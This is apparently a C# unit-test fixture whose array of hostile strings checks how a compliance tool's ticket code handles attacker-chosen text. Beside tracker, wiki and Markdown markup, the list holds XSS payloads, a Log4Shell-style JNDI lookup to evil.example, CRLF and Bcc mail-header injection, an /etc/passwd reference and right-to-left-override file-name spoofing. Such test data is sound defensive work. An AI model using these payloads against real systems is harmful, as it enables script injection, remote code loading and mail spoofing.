namespace ComplianceAgent.Tests.Tickets.Text;

/// <summary>Names that strangers may choose, each of which means something to a tracker, mail client or chat.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "{color:red}red{color}", "{noformat}", "{{macro}}", "{{include(Secret)}}", "{{DATE(2026-11-28T10:00:00Z,SHORT)}}", "[~admin]", "[~accountid:5b10]", "!image.png!", "!https://evil.example/a.png|width=1!",
        "@everyone", "@admin", "a @here b", "<at>Everyone</at>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "&#35;12", "&amp;",
        "fixes #1", "#123", "closes #7 now", "r12", "R2", "x r4711 y", "commit:deadbeef", "source:/etc/passwd", "attachment:secret.pdf", "user:admin", "version:\"1.0 beta\"", "document#17", "forum:1",
        "project:secret", "sandbox:#12", "[[Wiki page]]", "[[wiki|text]]", "!#12", "deadbeefcafe", "PHONE-12", "MDM-1 and MDM-2",
        "*bold*", "**bold**", "_it_", "__u__", "-del-", "--", "---", "----", "+ins+", "^sup^", "~sub~", "~~strike~~", "??cite??", "%span%", "@code@", "`code`", "``x``", "`", "==notextile==",
        "h1. x", "h1(cls). x", "bq. quote", "p. x", "fn1. x", "table. x", "# one", "* one", "- one", "1. one", "1) one", "> quote", "| a | b |", "|| head ||", "= title =", "===", "    indented", "ACLU(American)", "\"text\":https://evil.example",
        "[text](https://evil.example)", "![x](https://evil.example/y)", "[ref]: https://evil.example", "<https://evil.example>", "[text|https://evil.example]", "https://evil.example/path?x=1", "HTTP://EVIL.EXAMPLE", "www.evil.example", "evil.com", "login-evil.com/reset",
        "mailto:boss@evil.example", "boss@evil.example", "javascript:alert(1)", "\\\\evil\\share", "\\", "\\\\", "a\\*b", "C:\\Temp\\x", ":smile:", ":)", "(y)", "(!)", "$HOME", "${jndi:ldap://evil.example/a}", "@{triggerBody()}", "%0d%0aBcc: x",
        "Bcc: victim@evil.example", "line\r\nBcc: victim@evil.example", "one\ntwo", "one\n\nh1. two", "one\n# two", "tab\there", "a\u2028b", "nul\0nul", "\u001b[31mred", "\uD800lone", "\u202Egnp.exe\u202C", "\u202Eopen", "\u2069out\u2069", "\u2066in", "שלום", "👩‍👩‍👧 family", "ＴｉｋＴｏｋ",
        "[code]<b>x</b>[/code]", "[CODE]x[/CODE]", "</p><p>", "]]>", "<!-- -->", "x%x%", "<pre>", "<code>", "'quoted'", "\"quoted\"", " padded ", "",
    ];

    public static TheoryData<string> Data => [.. All];
}
